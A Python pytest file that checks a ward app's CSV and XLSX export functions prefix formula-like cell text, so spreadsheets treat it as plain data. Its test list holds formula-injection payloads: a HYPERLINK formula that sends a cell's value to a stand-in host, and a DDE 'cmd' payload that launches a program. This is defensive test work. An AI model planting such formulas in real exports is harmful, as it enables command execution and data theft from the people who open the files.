"""Export cells are data: nothing Excel would run as a formula leaves the app unneutralised."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from wardapp.exports import FORMULA_START, safe_cell, safe_row, set_xlsx_text

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"クリック")', "+81-3-1234", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_prefixed(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["みどり一丁目", "", "1-2-3 ハイツ=A", " =1", "'=1", "０３－１２３４"])
def test_other_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_rows_touch_only_text() -> None:
    assert safe_row(["=1", -3, None, 2.5, "桜台"]) == ["'=1", -3, None, 2.5, "桜台"]


def test_a_csv_written_through_safe_row_has_no_formula_cell() -> None:
    buf = io.StringIO()
    w = csv.writer(buf)
    for t in FORMULAS:
        w.writerow(safe_row([t, "x"]))
    for row in csv.reader(io.StringIO(buf.getvalue())):
        assert not row[0].startswith(FORMULA_START)


def test_xlsx_cells_stay_strings(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for i, t in enumerate(FORMULAS, start=1):
        set_xlsx_text(ws.cell(i, 1), t)
    set_xlsx_text(ws.cell(len(FORMULAS) + 1, 1), 42)
    path = tmp_path / "x.xlsx"
    wb.save(path)
    back = openpyxl.load_workbook(path).active
    assert back is not None
    for i, t in enumerate(FORMULAS, start=1):
        c = back.cell(i, 1)
        # the text as typed (XML reads a lone CR as LF), stored as a string cell
        assert (c.value, c.data_type) == (t.replace("\r", "\n"), "s")
    assert back.cell(len(FORMULAS) + 1, 1).value == 42
    # and no formula element anywhere in the sheet XML
    import zipfile

    with zipfile.ZipFile(path) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
